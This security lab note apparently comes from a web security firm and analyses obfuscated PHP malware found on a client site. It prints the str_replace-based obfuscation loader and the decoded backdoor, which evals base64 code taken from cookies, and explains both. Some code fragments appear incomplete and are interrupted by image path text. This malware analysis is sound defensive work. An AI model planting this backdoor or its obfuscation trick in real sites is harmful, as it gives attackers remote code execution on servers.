PHP str_replace to hide malware

Labs Note

We found another interesting piece of PHP-based malware on a client site a few days ago:

$ts = str_replace("b","","bsbtr_brbepblabcbe");
$dzy = $ts("er", "", "erberaersereer6er4er_dereercerodere");
$mc = $ts("y","","ycyryeyaytye_yfyuynctyiyoyn");
$tha = $mc('', $dzy($ts("nd", "", $exg.$sjb.$iyo.$fy))); $tha();

Can you decode and see what it is doing? ..

This piece of code tries to obfuscate all the functions that could be flagged by a scanner using a benign php function called str_replace. This function replaces all instances of a string with a replacement in the subject. So, for example, the next line:

----- $ts = str_replace("b","","bsbtr_brbepblabcbe"); -----

Replaces all instances of character \’b\’ with nothing. So from bsbtr_brbepblabcbe we get str_replace. Using the same technique, we have some more functions:

----- $dzy = $ts("er", "", "erberaersereer6er4er_dereercerodere"); //base64_decode $mc =$ts("y","","ycyryeyaytye_yfyuynctyiyoyn"); //create_function -----

All this for creatinga function and running it in this line:

----- $tha = $mc('', $dzy($ts("nd", "", $exg.$sjb.$iyo.$fy)));$tha(); -----

Function code is contained in thenext expression:

----- $dzy($ts("nd", "", $exg.$sjb.$iyo.$fy)); -----

And the final code is:

$c = "count";
$a = $_COOKIE;
if (reset($a) == 'mh' && $c($a) > 3) {
    $k = 'ute4m';echo '<' . $k . '>';
    eval(base64_decode (preg_replace(array(
    ), array(
    ), join(array_slice($a, $c($a) - 3)))));
    echo '</' . $k . '>';

What it does? It uses some simple tricks to edit the contents of the cookie, decode it from base64 and eval (execute) that malicious code.

You May Also Like